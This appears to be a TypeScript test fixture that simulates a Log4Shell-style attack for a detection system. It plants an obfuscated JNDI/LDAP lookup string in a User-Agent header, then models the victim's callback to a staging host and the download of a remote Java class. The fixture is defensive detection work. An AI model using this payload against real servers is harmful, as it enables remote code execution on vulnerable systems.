import { seconds } from '../../samples/base/clock.ts';
import { httpSession } from '../../samples/traffic/http.ts';
import { tcp } from '../../samples/traffic/tcp.ts';
import { dockerHost, userAgents } from '../../samples/world/hosts.ts';
import { on } from '../calendar.ts';
import type { Planted } from './planted.ts';

const attacker = '198.51.100.78';
const staging = '203.0.113.25';

/** A look-up hidden in a header of a request to the shop; the shop asks the named directory and loads a class. */
export const jndi: Planted = {
  detectors: ['analytics/exploit-string'],
  entities: [dockerHost.ip, staging],
  play(scene) {
    const time = on('Thu', '04:12:33.4');
    httpSession(scene, {
      time,
      client: attacker,
      server: dockerHost.ip,
      host: 'www.fjord.example',
      userAgent: `\${\${lower:j}ndi:\${lower:l}dap://${staging}:1389/x}`,
      requests: [{ target: '/search?q=lamp', responseBytes: 17_620, contentType: 'text/html', mime: 'text/html' }],
    });
    tcp(scene, {
      time: time + seconds(0.03),
      client: dockerHost.ip,
      server: staging,
      serverPort: 1389,
      upBytes: 90,
      downBytes: 205,
      durationMicros: seconds(0.2),
      services: ['ldap_tcp'],
    });
    httpSession(scene, {
      time: time + seconds(0.3),
      client: dockerHost.ip,
      server: staging,
      port: 8888,
      host: `${staging}:8888`,
      userAgent: userAgents.java,
      requests: [
        {
          target: '/x.class',
          responseBytes: 1_216,
          contentType: 'application/java-vm',
          mime: 'application/x-java-applet',
        },
      ],
    });
  },
};
